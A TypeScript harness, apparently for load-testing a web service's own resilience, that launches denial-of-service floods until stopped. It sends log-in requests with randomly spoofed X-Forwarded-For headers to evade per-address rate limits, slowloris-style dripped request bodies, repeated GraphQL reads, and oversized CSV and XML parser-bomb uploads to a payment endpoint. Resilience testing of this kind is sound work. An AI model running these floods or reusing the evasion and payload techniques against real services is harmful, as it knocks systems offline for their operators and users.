/** Somebody who wants the server to be slow, until SIGTERM: `{ kind, count, url, publicUrl, … }`. */
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';

export type Attack =
  | { kind: 'log-ins' | 'slow-bodies'; count: number }
  | { kind: 'reads'; count: number; token: string; body: string }
  | { kind: 'files'; count: number; token: string };

type Task = Attack & { url: string; publicUrl: string };

const task: Task = JSON.parse(process.argv[2] ?? '{}');
const DRIP_MS = 2000;
const seen = new Map<number, number>();

/** From another address each time, so no limit per address ends the attack. */
const somewhere = () => Array.from({ length: 4 }, () => 1 + Math.floor(Math.random() * 250)).join('.');

async function openLogIn(): Promise<{ url: string; cookie: string }> {
  const query = new URLSearchParams({
    client_id: 'canola-web',
    response_type: 'code',
    scope: 'openid email',
    redirect_uri: `${task.publicUrl}/callback`,
    code_challenge: 'a'.repeat(43),
    code_challenge_method: 'S256',
  });
  const first = await fetch(new URL(`/oidc/auth?${query}`, task.url), { redirect: 'manual' });
  const cookie = first.headers
    .getSetCookie()
    .map((cookie) => cookie.split(';')[0])
    .join('; ');
  const { pathname } = new URL(first.headers.get('location') ?? '/', task.url);
  await first.arrayBuffer();
  return { url: new URL(`${pathname}/log-in`, task.url).href, cookie };
}

/** The request that each repeats, once it is prepared. */
type Attacker = () => Promise<void>;

async function logInAgain(): Promise<Attacker> {
  const { url, cookie } = await openLogIn();
  return repeat(async () => {
    const body = new URLSearchParams({
      email: `${Math.random()}@farm.test`,
      password: 'not the password at all',
    });
    const headers = { cookie, origin: task.publicUrl, 'x-forwarded-for': somewhere() };
    return fetch(url, { method: 'POST', body, headers, redirect: 'manual' });
  });
}

async function readAgain(): Promise<Attacker> {
  if (task.kind !== 'reads') throw new Error('Another attack.');
  const { token, body } = task;
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
  return repeat(() => fetch(new URL('/graphql', task.url), { method: 'POST', headers, body }));
}

const attributes = (count: number) => Array.from({ length: count }, (_, at) => `a${at}="1"`).join(' ');
/** The last one hides its attributes behind the end of a tag, so it is parsed until it is cut off. */
const FILES = [
  ';'.repeat(4_000_000),
  `<Document ${attributes(200_000)}/>`,
  `<Document b=">" ${attributes(200_000)}/>`,
];

async function sendFiles(): Promise<Attacker> {
  if (task.kind !== 'files') throw new Error('Another attack.');
  const headers = { authorization: `Bearer ${task.token}`, 'content-type': 'text/csv' };
  let sent = 0;
  return repeat(() => {
    sent += 1;
    const body = FILES[sent % FILES.length] ?? '';
    return fetch(new URL('/can-users/api/payment/statement', task.url), { method: 'POST', headers, body });
  });
}

async function drip(): Promise<Attacker> {
  let socket = await beginBody();
  return async () => {
    for (;;) {
      const dripping = setInterval(() => socket.write(' '), DRIP_MS);
      if (!socket.closed) await once(socket, 'close');
      clearInterval(dripping);
      socket = await beginBody();
    }
  };
}

async function beginBody(): Promise<Socket> {
  const { hostname, port, host } = new URL(task.url);
  const socket = connect(Number(port), hostname);
  await once(socket, 'connect');
  socket.on('error', () => {});
  socket.resume();
  socket.write(
    `POST /graphql HTTP/1.1\r\nhost: ${host}\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n`,
  );
  return socket;
}

const repeat =
  (attempt: () => Promise<Response>): Attacker =>
  async () => {
    for (;;)
      try {
        const response = await attempt();
        await response.arrayBuffer();
        seen.set(response.status, (seen.get(response.status) ?? 0) + 1);
      } catch {
        // A refused connection is a refusal too.
      }
  };

const ATTACKS = { 'log-ins': logInAgain, 'slow-bodies': drip, reads: readAgain, files: sendFiles };
const attackers = await Promise.all(Array.from({ length: task.count }, () => ATTACKS[task.kind]()));
for (const attack of attackers) void attack();
process.stdout.write(`ready ${task.url}\n`);
process.once('SIGTERM', () => {
  if (process.env.BENCH_VERBOSE) process.stderr.write(`${task.kind}: ${JSON.stringify([...seen])}\n`);
  process.exit();
});
